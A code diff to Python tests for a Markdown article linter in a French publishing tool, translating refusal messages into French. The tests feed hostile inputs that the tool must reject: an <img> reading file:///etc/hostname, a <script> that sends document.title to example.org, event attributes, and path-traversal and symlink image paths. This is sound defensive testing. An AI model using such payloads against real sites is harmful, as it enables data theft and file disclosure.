@@ -62,13 +62,15 @@ def test_raw_img_to_a_local_file_is_refused_with_its_line(tmp_path: Path) -> Non
     body = 'Texte.\n\nUne image <img src="file:///etc/hostname"> ici.\n'
     root = write_issue(tmp_path, {"01-a.md": article("A", body)})
     [error] = _errors(root)
-    assert (error.line, error.message) == (7, "raw HTML <img> is not allowed")
+    assert (error.line, error.message) == (7, "la balise HTML <img> n'est pas permise")
 
 
 def test_script_block_is_refused(tmp_path: Path) -> None:
     body = "Texte.\n\n<script>\nfetch('https://example.org/?' + document.title)\n</script>\n"
     root = write_issue(tmp_path, {"01-a.md": article("A", body)})
-    assert [(e.line, e.message) for e in _errors(root)] == [(7, "raw HTML <script> is not allowed")]
+    assert [(e.line, e.message) for e in _errors(root)] == [
+        (7, "la balise HTML <script> n'est pas permise")
+    ]
 
 
 def test_event_attributes_and_styles_are_refused(tmp_path: Path) -> None:
@@ -78,8 +80,8 @@ def test_event_attributes_and_styles_are_refused(tmp_path: Path) -> None:
     )
     root = write_issue(tmp_path, {"01-a.md": article("A", body)})
     assert [e.message for e in _errors(root)] == [
-        "the attribute onclick of <span> is not allowed",
-        "the attribute style of <span> is not allowed",
+        "l'attribut onclick de <span> n'est pas permis",
+        "l'attribut style de <span> n'est pas permis",
     ]
 
 
@@ -87,7 +89,7 @@ def test_remote_image_is_refused_and_never_requested(tmp_path: Path, server: _Se
     url = f"http://127.0.0.1:{server.server_address[1]}/photo.png"
     root = write_issue(tmp_path, {"01-a.md": article("A", f"Texte.\n\n![Photo]({url})\n")})
     [error] = _errors(root)
-    assert (error.line, error.message) == (7, f"image '{url}' is not a file of the issue")
+    assert (error.line, error.message) == (7, f"l'image « {url} » n'est pas un fichier du numéro")
     assert server.hits == []
 
 
@@ -101,8 +103,8 @@ def test_parent_path_and_symlink_out_of_the_folder_are_refused(tmp_path: Path) -
     (root / "images").mkdir()
     (root / "images" / "lien.png").symlink_to(outside)
     assert [(e.line, e.message) for e in _errors(root)] == [
-        (5, "image '../../ailleurs.png' is outside the issue folder"),
-        (7, "image '../images/lien.png' is outside the issue folder"),
+        (5, "l'image « ../../ailleurs.png » est hors du dossier du numéro"),
+        (7, "l'image « ../images/lien.png » est hors du dossier du numéro"),
     ]
 
 
@@ -118,7 +120,8 @@ def test_the_fetcher_refuses_what_slips_past_lint(tmp_path: Path, server: _Serve
                 base_url=root,
                 language="fr-CA",
             )
-        assert info.value.message.startswith("refused to read ")
+        assert info.value.message.startswith("lecture refusée : « ")
+        assert info.value.hint == "un numéro ne peut utiliser que ses propres fichiers"
     assert server.hits == []
 
 
